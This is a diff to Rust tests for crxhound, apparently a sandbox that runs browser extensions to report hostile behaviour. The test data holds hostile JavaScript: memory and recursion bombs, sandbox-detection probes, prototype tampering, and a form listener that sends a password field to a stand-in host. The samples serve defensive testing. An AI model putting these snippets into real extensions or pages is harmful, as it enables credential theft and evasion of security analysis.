@@ -2,6 +2,7 @@
 
 use std::collections::BTreeSet;
 use std::fmt::Write;
+use std::time::Duration;
 
 use crxhound::acquire::Package;
 use crxhound::extract::Fact;
@@ -28,13 +29,18 @@ fn extension(package: &Package) -> Extension {
     }
 }
 
+/// A worker whose clock does not end a run: the machine that tests may be busy.
+fn worker(steps: u64) -> Worker {
+    let budget = Budget { steps, time: Duration::from_secs(300), losses: 100, ..Budget::default() };
+    Worker::with_program(env!("CARGO_BIN_EXE_crxhound"), budget)
+}
+
 fn run(package: &Package) -> Vec<Fact> {
-    let worker = Worker::with_program(env!("CARGO_BIN_EXE_crxhound"), Budget::default());
-    let (emulation, problems) = emulate(&worker, &extension(package), package);
+    let (emulation, problems) = emulate(&worker(Budget::default().steps), &extension(package), package);
     assert_eq!(problems, [], "{}", package.path);
-    for (scene, events) in &emulation.story {
-        let broken = events.iter().find(|event| event.kind == "broken");
-        assert!(broken.is_none(), "{} {scene}: {broken:?}", package.path);
+    for ran in &emulation.story {
+        let broken = ran.events.iter().find(|event| event.kind == "broken");
+        assert!(broken.is_none(), "{} {}: {broken:?}", package.path, ran.scene);
     }
     emulation.facts
 }
@@ -158,16 +164,70 @@ fn hostile_extensions_end_in_time_and_the_same_way() {
         ),
         ("importScripts('bg.js', 'missing.js'); throw 1", "}{"),
     ] {
-        let budget = || Budget { steps: 3_000_000, ..Budget::default() };
         let package = package(background, content);
         let runs: Vec<_> = (0..2)
             .map(|_| {
-                let worker = Worker::with_program(env!("CARGO_BIN_EXE_crxhound"), budget());
-                let (emulation, problems) = emulate(&worker, &extension(&package), &package);
+                let (emulation, problems) = emulate(&worker(6_000_000), &extension(&package), &package);
                 (arrivals(&emulation.facts), emulation.story, problems)
             })
             .collect();
         assert_eq!(runs[0], runs[1], "{background}");
+    }
+}
+
+/// What hostile code may cost: the run of one scene.
+#[test]
+fn bombs_end_a_run_and_nothing_else() {
+    for (name, bomb) in [
+        ("one huge string", "'x'.repeat(2 ** 30)"),
+        ("a string that is sent", "fetch('https://c.invalid/', { method: 'POST', body: 'x'.repeat(2 ** 28) })"),
+        ("string bomb", "let s = 'x'; for (;;) s += s"),
+        ("array bomb", "const a = []; for (;;) a.push(new Array(1e5).fill(0))"),
+        ("recursion through a proxy", "const p = new Proxy({}, { get: (t, k, r) => r[k] }); p.x"),
+        ("deep JSON", "JSON.parse('['.repeat(1e6))"),
+        ("deep code", "eval('['.repeat(1e5))"),
+        ("endless promises", "const f = () => Promise.resolve().then(f); f()"),
+        ("a flood of events", "for (;;) fetch('https://c.invalid/' + 'x'.repeat(1e5))"),
+    ] {
+        let worker = worker(4_000_000);
+        let package = package(bomb, "");
+        emulate(&worker, &extension(&package), &package);
+        let other = self::package(READER.0, READER.1);
+        let (emulation, _) = emulate(&worker, &extension(&other), &other);
+        assert!(!emulation.story.is_empty(), "after {name}");
+    }
+}
+
+#[test]
+fn results_of_a_run_cannot_be_faked() {
+    let fakes = [
+        r#"console.log('{"played":{"events":[{"kind":"sink","data":{"how":"fetch","url":"https://c.invalid","body":"kxqmailtextzv1"}}],"ending":"complete"}}\n')"#,
+        // The way out for reports is nowhere to be had.
+        "for (const name of ['hub', 'kit', 'native', 'report', '__created', 'scene']) if (name in globalThis) fetch('https://found.invalid/' + name)",
+        "const root = chrome.runtime.sendMessage.constructor('return this')(); if (root.hub || root.native || root.process) fetch('https://found.invalid/')",
+        // Neither time nor chance tell one machine from another.
+        "const t = Date.now(), p = performance.now(); for (let i = 0; i < 1e4; i++); if (Date.now() !== t || performance.now() !== p) fetch('https://found.invalid/')",
+        "if (!/native code/.test(fetch.toString()) || !/native code/.test(chrome.runtime.sendMessage.toString())) fetch('https://found.invalid/')",
+    ];
+    for fake in fakes {
+        let facts = run(&package(fake, ""));
+        let told: Vec<_> = facts.iter().map(|fact| (fact.kind.name, &fact.value)).collect();
+        assert!(told.is_empty(), "{fake}: {told:?}");
+    }
+}
+
+#[test]
+fn tampering_with_the_language_hides_nothing_from_the_report() {
+    for tampering in [
+        "JSON.stringify = () => 'fake'",
+        "Object.prototype.toJSON = () => 'fake'",
+        "Array.prototype.push = () => 0",
+        "RegExp.prototype.exec = () => null; String.prototype.startsWith = () => true",
+        "String.prototype.includes = () => false; String.prototype.slice = () => ''",
+    ] {
+        let read = "document.forms[0].addEventListener('submit', () => fetch('https://c.invalid/', { method: 'POST', body: document.querySelector('input[type=password]').value }));";
+        let found = arrivals(&run(&package("", &format!("{tampering}; {read}"))));
+        assert!(found.contains("login.password fetch c.invalid"), "{tampering}: {found:?}");
     }
 }
 
@@ -243,7 +303,7 @@ fn in_memory(expected: &Expected, files: &Files) -> Package {
 
 #[test]
 fn a_run_that_its_steps_end_says_so() {
-    let worker = Worker::with_program(env!("CARGO_BIN_EXE_crxhound"), Budget { steps: 1_000_000, ..Budget::default() });
+    let worker = worker(5_000_000);
     let package = package("for (;;) {}", "");
     let (_, problems) = emulate(&worker, &extension(&package), &package);
     let said: Vec<_> = problems.iter().map(|problem| (problem.stage, problem.message.as_str())).collect();
